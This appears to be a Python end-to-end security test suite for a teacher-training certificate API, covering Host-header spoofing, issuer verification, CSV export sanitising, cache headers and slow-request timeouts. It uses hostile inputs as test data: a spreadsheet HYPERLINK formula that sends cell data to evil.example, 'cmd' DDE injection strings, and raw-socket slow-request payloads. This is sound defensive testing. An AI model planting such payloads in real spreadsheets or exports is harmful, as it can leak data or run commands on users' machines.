"""What the bank hands out can't be turned against its readers.

A caller who chooses the ``Host`` header does not choose the issuer of a signed certificate
or status list; a certificate the bank holds under another issuer's name does not verify;
an HR office's cohort CSV and an auditor's institution CSV open in a spreadsheet with no
live formula and every digit of a teacher number; answers carry no-store and nosniff; a
body declared and never sent does not hold the connection.
"""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

from api.database import Database
from tests.e2e.conftest import ACCREDITATION, TOKENS, Bank, completion, running_bank, settle

BANK = "http://127.0.0.1:8080"  # Settings().public_base: host and port, as nothing else is set
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
NUMBER = "220106201500009"


def _pq(record_id: str, learner_id: str) -> dict[str, Any]:
    return completion(
        record_id,
        learner_id,
        hours="150",
        completed_on="2025-06-30",
        programme={
            "code": "PQ-2025",
            "title": "拟任校长任职资格培训",
            "category": "principal_qualification",
            "level": "national",
        },
    )


async def _qualified(bank: Bank, learner_id: str = "P-0001", name: str = "李强", school: str = "一小") -> int:
    r = await bank.client.post(
        "/v1/providers",
        headers=bank.auth("admin"),
        json={
            "provider_id": "JLU-TTC",
            "name": "吉林省教师培训学院",
            "jurisdiction": "220000",
            "accreditation": ACCREDITATION,
        },
    )
    assert r.status == 201, await r.text()
    r = await bank.client.post(
        "/v1/learners",
        headers=bank.auth("hr"),
        json={
            "learner_id": learner_id,
            "name": name,
            "jurisdiction": "220106",
            "school": school,
            "hired_on": "2015-09-01",
            "roles": [{"role": "prospective_principal", "since": "2015-09-01"}],
        },
    )
    assert r.status == 201, await r.text()
    r = await bank.client.post(
        "/v1/completions",
        headers=bank.auth("institution"),
        json={"completions": [_pq("PQ-1", learner_id), _pq("PQ-2", learner_id)]},
    )
    assert r.status == 207, await r.text()
    return await settle(bank)


async def _issue(bank: Bank, position: int, headers: dict[str, str] | None = None) -> dict[str, Any]:
    r = await bank.client.post(
        f"/v1/certificates?min_position={position}",
        headers={**bank.auth("hr"), **(headers or {})},
        json={"learner_id": "P-0001", "kind": "principal_qualification"},
    )
    issued: dict[str, Any] = await r.json()
    assert r.status == 201, issued
    return issued


async def test_the_host_header_does_not_name_the_issuer_of_what_the_bank_signs(bank: Bank) -> None:
    position = await _qualified(bank)
    issued = await _issue(bank, position, {"Host": "evil.example"})
    vc = issued["credential"]
    assert vc["issuer"]["id"] == BANK
    assert vc["id"] == f"{BANK}/v1/certificates/{issued['certificate_id']}"
    assert {s["statusListCredential"] for s in vc["credentialStatus"]} == {
        f"{BANK}/v1/status-lists/revocation-1",
        f"{BANK}/v1/status-lists/suspension-1",
    }
    await settle(bank)
    r = await bank.client.get(
        f"/v1/certificates/{issued['certificate_id']}/verification", headers={"Host": "evil.example"}
    )
    assert (await r.json())["valid"] is True

    r = await bank.client.get("/v1/status-lists/revocation-1", headers={"Host": "evil.example"})
    listed = await r.json()
    assert listed["credential"]["issuer"]["id"] == BANK
    assert listed["credential"]["id"] == f"{BANK}/v1/status-lists/revocation-1"


async def test_a_certificate_signed_under_another_address_does_not_verify(database: Database, tmp_path: Path) -> None:
    # Issued while the bank was told (as a Host header once could) that it is evil.example.
    async with running_bank(database, tmp_path / "keys", TOKENS, public_url="http://evil.example") as bank:
        position = await _qualified(bank)
        issued = await _issue(bank, position)
        assert issued["credential"]["issuer"]["id"] == "http://evil.example"
        await settle(bank)
    async with running_bank(database, tmp_path / "keys", TOKENS) as bank:
        # Just started: the read models already hold the certificate, and the runner taking the
        # applier role answers their position, not the 0 it starts with.
        r = await bank.client.get(f"/v1/certificates/{issued['certificate_id']}/verification")
        body = await r.json()
        assert r.status == 200 and body["valid"] is False, body
        assert "issuer 'http://evil.example' is not this bank" in body["signature"]["reason"]
        r = await bank.client.post("/v1/certificates/verification", json={"jws": issued["jws"]})
        body = await r.json()
        assert body["valid"] is False and "not this bank" in body["signature"]["reason"], body


def _rows(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


async def test_csv_exports_hold_no_live_formula_and_every_digit(bank: Bank) -> None:
    await _qualified(bank, NUMBER, HOSTILE_NAME, "+cmd|' /C calc'!A0")
    r = await bank.client.post(
        "/v1/completions",
        headers=bank.auth("institution"),
        json=completion(
            "R-1", NUMBER, programme={"code": "ETH-1", "title": "师德", "category": "ethics", "level": "provincial"}
        ),
    )
    assert r.status == 201, await r.text()
    r = await bank.client.post(
        "/v1/completions/JLU-TTC/R-1/revocation",
        headers=bank.auth("institution"),
        json={"reason": "@SUM(1+1)*cmd|' /C calc'!A0"},
    )
    assert r.status == 201, await r.text()
    await settle(bank)

    r = await bank.client.get(
        "/v1/eligibility?target=teacher_cycle&jurisdiction=220106", headers={**bank.auth("hr"), "Accept": "text/csv"}
    )
    assert r.status == 200, await r.text()
    header, row = _rows(await r.read())
    cells = dict(zip(header, row, strict=True))
    assert cells["learner_id"] == f"'{NUMBER}"  # text: all 15 digits, not 2.20106E+14
    assert cells["name"] == f"'{HOSTILE_NAME}" and cells["school"] == "'+cmd|' /C calc'!A0"

    month = datetime.now(ZoneInfo("Asia/Shanghai")).strftime("%Y-%m")
    r = await bank.client.get(
        f"/v1/audit/institutions/JLU-TTC?month={month}", headers={**bank.auth("auditor"), "Accept": "text/csv"}
    )
    assert r.status == 200, await r.text()
    header, *rows = _rows(await r.read())
    [revocation] = [dict(zip(header, row, strict=True)) for row in rows if row[3] == "revocation"]
    assert revocation["learner_id"] == f"'{NUMBER}"
    assert revocation["detail"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    for row in rows:
        assert not any(cell and cell[0] in "=+-@\t\r＝＋－＠" for cell in row), row


async def test_answers_are_not_stored_or_sniffed_and_status_lists_stay_cacheable(bank: Bank) -> None:
    position = await _qualified(bank)
    for path, role in (
        (f"/v1/learners/P-0001?min_position={position}", "hr"),
        ("/v1/learners/NOBODY", "hr"),
        ("/v1/events?after=0", "auditor"),
        ("/v1/learners/P-0001", None),
    ):
        r = await bank.client.get(path, headers=bank.auth(role) if role else {})
        assert r.headers["Cache-Control"] == "no-store", (path, r.status)
        assert r.headers["X-Content-Type-Options"] == "nosniff", path
    r = await bank.client.get(
        "/v1/eligibility?target=teacher_cycle&jurisdiction=220106", headers={**bank.auth("hr"), "Accept": "text/csv"}
    )
    assert r.headers["Cache-Control"] == "no-store" and r.headers["X-Content-Type-Options"] == "nosniff"
    r = await bank.client.get("/v1/status-lists/revocation-1")
    assert r.headers["Cache-Control"] == "max-age=60" and r.headers["X-Content-Type-Options"] == "nosniff"


async def test_a_body_declared_and_never_sent_does_not_hold_the_connection(database: Database, tmp_path: Path) -> None:
    async with running_bank(database, tmp_path / "keys", TOKENS, body_timeout_seconds=0.5) as bank:
        server = bank.client.server
        reader, writer = await asyncio.open_connection(server.host, server.port)
        writer.write(
            b"POST /v1/completions HTTP/1.1\r\nHost: bank\r\nContent-Type: application/json\r\n"
            b"Authorization: Bearer "
            + bank.tokens["institution"].encode()
            + b'\r\nContent-Length: 1000\r\n\r\n{"completions": ['
        )
        await writer.drain()
        started = asyncio.get_running_loop().time()
        answer = await asyncio.wait_for(reader.read(), timeout=10)  # read() returns when the server closes
        took = asyncio.get_running_loop().time() - started
        writer.close()
        assert answer.startswith(b"HTTP/1.1 408"), answer[:200]
        assert b"body_timeout" in answer and took < 5, took


async def test_headers_sent_slowly_do_not_hold_the_connection(database: Database, tmp_path: Path) -> None:
    async with running_bank(database, tmp_path / "keys", TOKENS, header_timeout_seconds=0.5) as bank:
        server = bank.client.server
        reader, writer = await asyncio.open_connection(server.host, server.port)
        writer.write(b"GET /hea")  # half a request line, and nothing more
        await writer.drain()
        started = asyncio.get_running_loop().time()
        answer = await asyncio.wait_for(reader.read(), timeout=10)  # read() returns when the server closes
        took = asyncio.get_running_loop().time() - started
        writer.close()
        assert answer == b"" and took < 5, (answer[:200], took)
        # A request sent whole in time is answered as ever.
        r = await bank.client.get("/healthz")
        assert r.status == 200
